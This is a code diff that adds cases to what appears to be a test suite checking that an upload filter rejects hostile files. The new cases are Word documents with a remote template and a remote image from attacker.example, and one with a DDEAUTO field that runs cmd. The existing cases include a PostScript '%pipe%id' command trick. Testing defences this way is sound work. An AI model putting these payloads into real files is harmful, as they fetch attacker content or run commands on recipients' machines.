@@ -1,4 +1,5 @@
 import { gzipSync } from 'node:zlib'
+import { zipFile } from '../../src/server/testing/zip.ts'
 import sharp from 'sharp'
 import { onePage, pdfStream } from '../../src/server/testing/pdf.ts'
 import { png } from '../../src/server/testing/png.ts'
@@ -22,6 +23,17 @@ const formats: HostileFile[] = await Promise.all(
   }),
 )
 
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const related = (type: string) =>
+  `<Relationship Id="rId1" Type="${office}/${type}" Target="https://attacker.example/a" TargetMode="External"/>`
+
+const word = (part: string, relationships: string, body = '') =>
+  zipFile({
+    '[Content_Types].xml': '<Types/>',
+    'word/document.xml': `<w:document>${body}</w:document>`,
+    [`word/_rels/${part}.xml.rels`]: `<Relationships>${relationships}</Relationships>`,
+  })
+
 const others: HostileFile[] = [
   refused('an empty file', () => Buffer.alloc(0)),
   refused('one byte', () => text('%')),
@@ -37,6 +49,11 @@ const others: HostileFile[] = [
   refused('a program for Linux', () => Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])),
   refused('an archive', () => zip()),
   refused('a document of a word processor', () => zip('[Content_Types].xml', '<Types/>')),
+  refused('a Word file whose template is elsewhere', () => word('settings', related('attachedTemplate'))),
+  refused('a Word file with a picture from elsewhere', () => word('document', related('image'))),
+  refused('a Word file that runs a program by a field', () =>
+    word('document', '', '<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>'),
+  ),
   refused('a compressed page', () => gzipSync(image)),
   refused('PostScript', () => text('%!PS-Adobe-3.0\n(%pipe%id) (r) file')),
   refused('Photoshop', () => text('8BPS\0\x01\0\0\0\0\0\0\0\x03')),
